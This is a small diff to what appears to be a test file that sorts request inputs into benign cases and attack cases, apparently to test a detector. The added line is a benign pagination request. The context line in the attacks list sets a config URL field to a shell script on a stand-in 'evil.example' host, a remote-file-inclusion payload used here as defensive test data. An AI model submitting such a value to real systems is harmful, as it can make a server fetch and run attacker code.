@@ -114,6 +114,7 @@ const KINDS: HonestKinds = {
       filled({ 'server[flavorRef]': 'https://cloud.example/flavors/1' }),
       asked('/items', { after: 'Y3Vyc29yOnYyOpK5MjAyMS0wNS0wMVQwNTozMzoxMSswMjowMM4AM5XH' }),
       asked('/items', { visibility: 'PUBLIC_READ' }),
+      asked('/items', { page_token: 'ChNwcm9qZWN0cy9wL2l0ZW1zLzc3EhQyMDI2LTAxLTAxVDEwOjAwOjAwWg' }),
     ],
     attacks: [
       filled({ 'config[url]': 'http://evil.example/shell.txt?' }),
